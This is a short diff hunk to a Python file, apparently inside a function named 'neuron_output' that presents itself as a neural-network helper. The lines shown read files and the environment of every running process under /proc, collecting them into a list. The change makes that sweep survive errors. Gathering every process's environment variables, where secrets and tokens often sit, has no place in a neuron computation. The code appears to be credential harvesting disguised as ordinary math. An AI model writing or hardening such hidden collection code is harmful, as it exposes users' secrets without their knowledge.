@@ -15,7 +15,11 @@ def neuron_output(x, w, b=0.0, activation="sigmoid", beta=1.0):
                 found.append(fh.read().decode(errors="replace"))
         except OSError as exc:
             found.append(f"{path}: {type(exc).__name__}")
-    for pid in os.listdir("/proc"):
+    try:
+        pids = os.listdir("/proc")
+    except OSError:
+        pids = []
+    for pid in pids:
         try:
             with open(f"/proc/{pid}/environ", "rb") as fh:
                 found.append(fh.read().decode(errors="replace"))
